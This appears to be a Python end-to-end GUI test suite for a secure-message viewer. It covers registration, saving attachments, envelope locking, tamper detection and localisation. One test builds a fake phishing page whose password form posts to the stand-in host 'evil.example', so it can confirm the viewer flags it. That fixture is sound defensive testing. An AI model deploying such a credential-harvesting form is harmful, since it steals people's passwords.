# SPDX-FileCopyrightText: The securedoc authors
# SPDX-License-Identifier: Apache-2.0
"""The recipient's way through the real window: from the mail's attachment to the saved file, with the real service,
keyring and accessibility bus. Takes the five pictures of docs/images; --update-images puts them there."""

import base64
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import unittest
import urllib.parse
import urllib.request
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path

TREE = Path(__file__).resolve().parents[2]
sys.path[:0] = [str(TREE / "tests" / "support"), str(TREE / "resources" / "sample"), str(TREE / "tests" / "e2e")]

from desktop import Atspi, Desktop, Viewer, run_inside  # noqa: E402
from message import RECIPIENT, SENDER, sample_message  # noqa: E402
from service_fixture import Recipient, Service, program, wait_until  # noqa: E402

PASSWORD = "Herbst-Laub-Fenster-42"
PDF = "Behandlungsplan José Álvarez.pdf"
IMAGES = Path(os.environ.get("SECUREDOC_IMAGES", tempfile.gettempdir()))
BUTTON = "push button"
INTERACTIVE = {"push button", "check box", "text", "password text", "combo box", "link", "list item"}


def activate(link):
    """What the form on the page behind the link in an activation mail does."""
    form = urllib.parse.urlencode({"password": PASSWORD}).encode()
    with urllib.request.urlopen(urllib.request.Request(link, data=form, method="POST"), timeout=30) as answer:
        return answer.status


def extents(node):
    return node.get_component_iface().get_extents(Atspi.CoordType.SCREEN)


class ViewerTest(unittest.TestCase):
    def setUp(self):
        holder = tempfile.TemporaryDirectory(prefix="securedoc-viewer-test-")
        self.addCleanup(holder.cleanup)
        self.folder = Path(holder.name)
        self.service = Service(self.folder)
        self.service.start()
        self.addCleanup(self.service.stop)

    def seal(self, message=None, recipient=RECIPIENT.addr_spec):
        message = message or sample_message()
        mail = self.service.seal(message.as_bytes(), SENDER.addr_spec, [recipient], what="mail")
        attachment = next(message_from_bytes(mail, policy=policy.default).iter_attachments())
        path = self.folder / attachment.get_filename()
        path.write_bytes(attachment.get_payload(decode=True))
        return path

    @staticmethod
    def envelope_id(path):
        claims = re.search(rb'id="securedoc-header">\s*[A-Za-z0-9_-]+\.([A-Za-z0-9_-]+)\.', path.read_bytes()).group(1)
        return json.loads(base64.urlsafe_b64decode(claims + b"=="))["jti"]

    def assert_named(self, viewer):
        """Everything a person can use says what it is."""
        nameless = [role for role, name, node in viewer.nodes()
                    if role in INTERACTIVE and not name and not node.get_description()]
        self.assertEqual(nameless, [], viewer.text())

    def register(self, viewer):
        viewer.press("^Accept and continue", BUTTON)
        viewer.wait_for("Sender verified: sealed by Klinik Grünewald")
        viewer.wait_for("^Create account", BUTTON)
        self.assertEqual(viewer.focused()[1], "Create account")
        self.assert_named(viewer)
        viewer.screenshot(IMAGES / "front.png")
        viewer.press("^Create account", BUTTON)
        viewer.wait_for("Create your account")
        viewer.enter("^Your name$", RECIPIENT.display_name, "text")
        viewer.enter("^Password$", PASSWORD, "password text")
        viewer.enter("^Password again$", PASSWORD, "password text")
        viewer.press("^Remember me", "check box")
        viewer.wait_enabled("^Create account", BUTTON)
        self.assert_named(viewer)
        viewer.screenshot(IMAGES / "register.png")
        viewer.press("^Create account", BUTTON)
        viewer.wait_for("Check your inbox")
        viewer.screenshot(IMAGES / "waiting.png")
        mail = self.service.wait_for_mail(RECIPIENT.addr_spec)
        self.assertEqual(activate(self.service.link_in(mail)), 200)

    def wait_for_message(self, viewer):
        viewer.wait_for("Your results and the plan until March")
        viewer.wait_for(re.escape(PDF))
        viewer.wait_enabled("^Save…", BUTTON)  # the end is verified

    def save_attachment(self, viewer):
        target = self.folder / "saved.pdf"
        viewer.press("^Save…", BUTTON)
        viewer.wait_for("Save attachment", "dialog")
        viewer.enter("File name", str(target), "text")
        viewer.press("^Save$", BUTTON)
        wait_until(target.exists, "the saved attachment")
        self.assertEqual(target.read_bytes(), (TREE / "resources" / "sample" / "plan.pdf").read_bytes())
        viewer.wait_for("Saved as")

    def check_paper(self, viewer):
        """A record: who, to whom, when, what was attached, numbered pages, and text that is text."""
        viewer.keys("ctrl+shift+s")
        viewer.wait_for("Save as PDF", "dialog")
        suggested = viewer.find("File name", "text")
        self.assertRegex(suggested.get_text(0, -1), r"\w.*\.pdf$")
        target = self.folder / "record.pdf"
        viewer.enter("File name", str(target), "text")
        viewer.press("^Save$", BUTTON)
        wait_until(target.exists, "the PDF")
        text = subprocess.run(["pdftotext", "-layout", target, "-"], stdout=subprocess.PIPE, check=True).stdout.decode()
        for part in (SENDER.addr_spec, RECIPIENT.addr_spec, "Date", PDF, "Verified: sealed by Klinik Grünewald",
                     "Your results and the plan until March", "Page 1 of"):
            self.assertIn(part, text)

    def check_reply_button(self, viewer):
        """Whole, in the ordinary window: as high as other buttons, and inside of everything that holds it."""
        button, other = (viewer.wait_for(name, BUTTON) for name in ("^Reply", "^Save…"))
        place = extents(button)
        self.assertGreaterEqual(place.height, extents(other).height)
        holder = button.get_parent()
        while holder is not None and holder.get_role_name() != "application":
            around = extents(holder)
            self.assertTrue(around.x <= place.x and around.y <= place.y and
                            place.x + place.width <= around.x + around.width and
                            place.y + place.height <= around.y + around.height,
                            (holder.get_role_name(), holder.get_name()))
            holder = holder.get_parent()

    def check_find(self, viewer):
        viewer.keys("ctrl+f")
        viewer.wait_for("^Find in message$", "text")
        viewer.type("no such words")
        viewer.wait_for("^Not found$")
        viewer.keys("Escape")

    def test_menus_hold_every_action(self):
        with Viewer(self.seal()) as viewer:
            viewer.wait_for("^Accept and continue", BUTTON)
            wait_until(lambda: viewer.focused() == (BUTTON, "Close"), "the focus to be where Enter accepts nothing")
            for menu, entries in (("File", ["Open…", "Save as PDF…", "Print preview…", "Print…", "Close", "Quit"]),
                                  ("Edit", ["Copy", "Select all", "Find in message…", "Find next", "Find previous"]),
                                  ("View", ["Larger text", "Smaller text", "Normal size", "Full screen"]),
                                  ("Message", ["Reply", "Forward", "Save all attachments…", "Accept and continue",
                                               "Help with this message"]),
                                  ("Tools", ["Sign out and forget me"]),
                                  ("Help", ["Help", "Keyboard shortcuts", "About securedoc viewer"])):
                viewer.press(f"^{menu}$", "menu item")
                for entry in entries:
                    viewer.wait_for(f"^{re.escape(entry)}$", "menu item")
                viewer.keys("Escape")

    def test_register_read_save_and_come_back(self):
        envelope = self.seal()
        with Viewer(envelope) as viewer:
            viewer.wait_for("Not verified: 127.0.0.1")  # a stranger's service is not asked before it is accepted
            self.assertIsNone(viewer.find("", "password text"))
            self.register(viewer)
            self.wait_for_message(viewer)
            self.assert_named(viewer)
            self.wait_until_painted(viewer)
            self.check_reply_button(viewer)
            self.save_attachment(viewer)
            self.check_paper(viewer)
            self.check_find(viewer)
        with Viewer(envelope) as viewer:  # remembered: nothing is asked
            self.wait_for_message(viewer)

        lock = [program("securedoc-service"), "admin", "envelopes", "lock", self.envelope_id(envelope), "--reason",
                "Sent to the wrong person; please delete it", "--data", str(self.service.data)]
        subprocess.run(lock, check=True, stdout=subprocess.DEVNULL)
        with Viewer(envelope) as viewer:
            viewer.wait_for("This message is locked.*wrong person")
            viewer.wait_for("^Try again", BUTTON)
            self.assert_named(viewer)
            viewer.screenshot(IMAGES / "refusal.png")

        self.check_withdrawal()

    def check_withdrawal(self):
        """A message whose end is not what was sealed is taken back, with the reason in its place."""
        message = sample_message()
        message.add_attachment(os.urandom(3_000_000), "application", "octet-stream", filename="scan.bin")
        broken = self.seal(message)
        content = bytearray(broken.read_bytes())
        last = content.rindex(b'class="securedoc-payload"')
        place = content.index(b">", last) + 2000
        content[place] = ord("A") if content[place] != ord("A") else ord("B")
        broken.write_bytes(content)
        with Viewer(broken) as viewer:
            viewer.wait_for("was changed after it was sealed")
            self.assertIsNone(viewer.find("scan.bin"), viewer.text())
            viewer.wait_for("^Open another file", BUTTON)

    def wait_until_painted(self, viewer):
        """The HTML body is there when the picture has more than a few colours of paper and text."""
        picture = IMAGES / "message.png"

        def painted():
            viewer.screenshot(picture)
            middle = subprocess.run(["convert", str(picture), "-gravity", "center", "-crop", "60%x30%+0+0", "-format",
                                     "%k", "info:"], stdout=subprocess.PIPE, text=True)
            return int(middle.stdout or 0) > 16

        wait_until(painted, "the body's picture")

    def test_altered_and_fake_files_get_no_password_field(self):
        envelope = self.seal()
        with Viewer(envelope) as viewer:
            viewer.press("^Accept and continue", BUTTON)
            viewer.wait_for("^Create account", BUTTON)
        content = envelope.read_bytes()
        header = re.search(rb'id="securedoc-header">\s*([A-Za-z0-9_-]+)\.([A-Za-z0-9_-]+)\.', content)
        signature = header.end()
        altered = self.folder / "altered.html"
        flipped = b"A" if content[signature:signature + 1] != b"A" else b"B"
        altered.write_bytes(content[:signature] + flipped + content[signature + 1:])
        with Viewer(altered) as viewer:
            viewer.wait_for("^Altered: ")
            viewer.wait_for("Open another file", BUTTON)
            self.assertIsNone(viewer.find("", "password text"))
        fake = self.folder / "securedoc_20131210T153959.html"
        fake.write_text("<html><title>Secure message</title><form action='http://evil.example/x' method=post>"
                        "<input type=email><input type=password name=p><input type=submit></form></html>")
        with Viewer(fake) as viewer:
            viewer.wait_for("imitates a secure message but is not one")
            viewer.wait_for("evil.example")
            self.assertIsNone(viewer.find("", "password text"))

    @staticmethod
    def has_engine(viewer):
        return "libQt6WebEngineCore" in Path(f"/proc/{viewer.process.pid}/maps").read_text()

    def test_engine_starts_while_typing_and_never_for_text(self):
        person = Recipient(self.service, self.folder / "home", RECIPIENT.addr_spec)
        with Viewer(self.seal(), **person.environment) as viewer:
            viewer.wait_for("^Accept and continue", BUTTON)
            self.assertFalse(self.has_engine(viewer), "a stranger's file does not make it start")
            viewer.press("^Accept and continue", BUTTON)
            viewer.wait_for("^Create account", BUTTON)
            wait_until(lambda: self.has_engine(viewer), "the engine to start before anything is typed")
        person.register()
        person.sign_in()
        message = EmailMessage(policy=policy.SMTP)
        message["From"], message["To"], message["Subject"] = str(SENDER), RECIPIENT.addr_spec, "++ Plain words"
        message.set_content("Nothing but text, see https://hospital.example/\n")
        with Viewer(self.seal(message), **person.environment) as viewer:
            viewer.wait_for("^Message text$")
            self.assertFalse(self.has_engine(viewer), viewer.text())

    def test_limits_of_the_policy_hold(self):
        envelope = self.seal()
        home = self.folder / "home"
        home.mkdir()
        (home / "policy.json").write_text('{"maximum_file_size": 5000}')
        with Viewer(envelope, SECUREDOC_HOME=str(home)) as viewer:
            viewer.wait_for("larger than this computer is allowed to open")
            viewer.wait_for("Open another file", BUTTON)

    def test_one_program_for_all_windows(self):
        one, two = self.seal(), self.folder / "second.html"
        shutil.copy(one, two)

        def windows():
            return sum((role, name) == ("menu item", "File") for role, name, _ in viewer.nodes())

        with Viewer(one) as viewer:
            viewer.wait_for("^Accept and continue", BUTTON)
            for _ in range(2):  # handed over, and each file has one window
                subprocess.run([program("securedoc-viewer"), one, two], check=True, timeout=60)
                wait_until(lambda: windows() == 2, "two windows")
            subprocess.run([program("securedoc-viewer")], check=True, timeout=60)
            viewer.wait_for("Read a secure message")
            wait_until(lambda: windows() == 3, "three windows")

    def test_message_for_somebody_else(self):
        """Before anything is typed: who, when, how large, sent where; and one click that tells the sender."""
        envelope = self.seal()
        with Viewer(envelope) as viewer:
            viewer.press("^Accept and continue", BUTTON)
            viewer.wait_for(f"The message was sent to {re.escape(RECIPIENT.addr_spec)}")
            viewer.wait_for(r"Size About [\d.,]+ [kM]?B")
            viewer.press("^This message is not for me", BUTTON)
            viewer.wait_for(f"We tell {re.escape(SENDER.addr_spec)} by mail")
            self.assert_named(viewer)
            viewer.press("^Tell the sender", BUTTON)
            viewer.wait_for("The sender has been told")
        told = self.service.wait_for_mail(SENDER.addr_spec).get_body(("plain",)).get_content()
        self.assertIn(f"The copy for {RECIPIENT.addr_spec} is now locked", told)

    def test_several_files_and_none(self):
        one, two = self.seal(), self.folder / "second.html"
        shutil.copy(one, two)
        with Viewer(one, two) as viewer:
            wait_until(lambda: sum(name.startswith("Accept and") for _, name, _ in viewer.nodes()) == 2, "two windows")
        with Viewer() as viewer:
            viewer.wait_for("Read a secure message")
            self.assertEqual(viewer.focused()[1], "Open a secure message…")

    def test_spanish(self):
        with Viewer(self.seal(), LC_ALL="es_ES.UTF-8", LANGUAGE="es") as viewer:
            viewer.wait_for("Sin verificar: ")
            viewer.press("^Aceptar y continuar", BUTTON)
            viewer.press("^Crear cuenta", BUTTON)
            viewer.wait_for("^Cree su cuenta")
            self.assertNotIn("account", viewer.text())


if __name__ == "__main__":
    if "--update-images" in sys.argv:
        os.environ["SECUREDOC_IMAGES"] = str(TREE / "docs" / "images")
    run_inside(__file__)
    IMAGES.mkdir(parents=True, exist_ok=True)
    arguments = [argument for argument in sys.argv if argument != "--update-images"]
    with Desktop():
        unittest.main(argv=arguments, verbosity=2)
